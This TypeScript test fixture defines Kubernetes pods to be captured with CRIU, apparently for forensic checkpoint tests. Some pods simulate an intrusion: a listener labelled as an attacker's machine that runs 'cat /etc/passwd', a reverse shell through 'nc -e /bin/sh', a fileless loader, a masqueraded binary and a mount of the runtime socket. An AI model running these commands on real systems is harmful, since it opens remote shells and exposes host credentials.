/** The pods that tests capture. No scheduler and no controllers run: a pod names its node and wants no token. */
import { NODE_NAME } from '../credentials.ts';

export { WORKLOAD_IMAGE } from './image.ts';

import { WORKLOAD_IMAGE } from './image.ts';

export interface Container {
  readonly name: string;
  readonly command: readonly string[];
  readonly env?: Readonly<Record<string, string>>;
}

export function namespace(name: string) {
  return { apiVersion: 'v1', kind: 'Namespace', metadata: { name } };
}

export function pod(inNamespace: string, name: string, containers: readonly Container[]) {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, namespace: inNamespace, labels: { app: name } },
    spec: {
      nodeName: NODE_NAME,
      automountServiceAccountToken: false,
      enableServiceLinks: false,
      terminationGracePeriodSeconds: 0,
      containers: containers.map(({ name, command, env = {} }) => ({
        name,
        command,
        image: WORKLOAD_IMAGE,
        imagePullPolicy: 'Never',
        env: Object.entries(env).map(([name, value]) => ({ name, value })),
      })),
    },
  };
}

/** The same pod with a folder of the node at /node in each container. */
function withNodeFolder(of: ReturnType<typeof pod>, folder: string) {
  const containers = of.spec.containers.map((container) => ({
    ...container,
    volumeMounts: [{ name: 'node', mountPath: '/node' }],
  }));
  const volumes = [{ name: 'node', hostPath: { path: folder } }];
  return { ...of, spec: { ...of.spec, volumes, containers } };
}

/** The same pod with all capabilities and devices of the node. */
function privileged(of: ReturnType<typeof pod>) {
  const containers = of.spec.containers.map((container) => ({
    ...container,
    securityContext: { privileged: true },
  }));
  return { ...of, spec: { ...of.spec, containers } };
}

/** All of them live in this namespace. */
export const SHOP = 'shop';

/** A web server with a password in its environment, and a sidecar that counts. */
export const web = pod(SHOP, 'web', [
  {
    name: 'app',
    command: ['sh', '-c', 'counter >/dev/null & exec httpd -f -p 8080 -h /www'],
    env: { DB_HOST: 'db.shop.svc', DB_PASSWORD: 'correct-horse-battery-staple' },
  },
  { name: 'sidecar', command: ['counter'] },
]);

/** An attacker's machine: answers reverse shells on port 4444. */
export const peer = pod(SHOP, 'peer', [
  { name: 'listener', command: ['answer', '4444', 'unset HISTFILE', 'cd /tmp', 'id', 'cat /etc/passwd'] },
]);

/** Reverse shells to an address, dialled by a program of their own and by busybox's nc. */
export function reverseShell(address: string) {
  return pod(SHOP, 'reverse-shell', [
    { name: 'dial', command: ['sh', '-c', `dial ${address} 4444 & exec pause`] },
    { name: 'nc', command: ['nc', address, '4444', '-e', '/bin/sh'] },
  ]);
}

export const family = pod(SHOP, 'family', [{ name: 'family', command: ['family'] }]);
export const fileless = pod(SHOP, 'fileless', [
  { name: 'fileless', command: ['sh', '-c', 'loader & exec pause'] },
]);
export const vanished = pod(SHOP, 'vanished', [
  { name: 'vanished', command: ['sh', '-c', 'cp /bin/vanish /tmp/update; /tmp/update & exec pause'] },
]);
export const unread = pod(SHOP, 'unread', [{ name: 'unread', command: ['unread'] }]);
/** Needs `file-locks` in runc.conf. */
export const kinds = pod(SHOP, 'kinds', [{ name: 'kinds', command: ['kinds'] }]);
/** Holds sockets that are bound to nothing, and has a second process with the same descriptors. */
export const plugs = pod(SHOP, 'plugs', [{ name: 'plugs', command: ['plugs'] }]);
/** Watches /etc, where CRIU looks unasked. */
export const watch = pod(SHOP, 'watch', [{ name: 'watch', command: ['watch'] }]);
/** Needs `irmap-scan-path=/www/index.html` in runc.conf. */
export const watchPage = pod(SHOP, 'watch-page', [{ name: 'watch', command: ['watch', '/www/index.html'] }]);
/** Is connected to the runtime's socket. Needs its own socket named in runc.conf: `external unix[INODE]`. */
export const whisper = withNodeFolder(
  pod(SHOP, 'whisper', [{ name: 'whisper', command: ['whisper', '/node/containerd.sock'] }]),
  '/run/containerd',
);

/** Holds an io_uring, which CRIU cannot dump. */
export const ring = pod(SHOP, 'ring', [{ name: 'ring', command: ['ring'] }]);
/** Serves a file system of its own, as a program that mounts a bucket or an archive does. */
export const serve = privileged(pod(SHOP, 'serve', [{ name: 'serve', command: ['serve'] }]));
/** A deleted file of 2 MiB that is still open. Needs `ghost-limit` in runc.conf. */
export const ghost = pod(SHOP, 'ghost', [
  {
    name: 'ghost',
    command: [
      'sh',
      '-c',
      'head -c 2097152 /dev/urandom >/tmp/ghost; exec 7</tmp/ghost; rm /tmp/ghost; exec pause',
    ],
  },
]);

/** Threads with known stacks, for debuggers. */
export const stacks = pod(SHOP, 'stacks', [{ name: 'stacks', command: ['stacks', 'stacks'] }]);

/** A container that a capture ends: CRIU interrupts nanosleep, on which busybox's sleep exits. */
export const sleeper = pod(SHOP, 'sleeper', [{ name: 'sleeper', command: ['sleep', '1000000'] }]);

/** One process that holds this much memory. */
export function hoard(mebibytes: number) {
  return pod(SHOP, 'hoard', [{ name: 'hoard', command: ['hoard', `${mebibytes}`] }]);
}

/** So many processes of so much private memory each; the threads count in memory that all share, and in their own. */
export function crowd(processes: number, mebibytes: number, threads: number) {
  const sizes = [processes, mebibytes, threads].map(String);
  return pod(SHOP, 'crowd', [{ name: 'crowd', command: ['crowd', ...sizes] }]);
}

/** Everything that gives rise to images of many kinds, in one container. Needs `file-locks` in runc.conf. */
export const zoo = pod(SHOP, 'zoo', [
  {
    name: 'zoo',
    command: [
      'sh',
      '-c',
      'family & loader & cp /bin/vanish /tmp/update; /tmp/update & unread & kinds & exec pause',
    ],
  },
]);
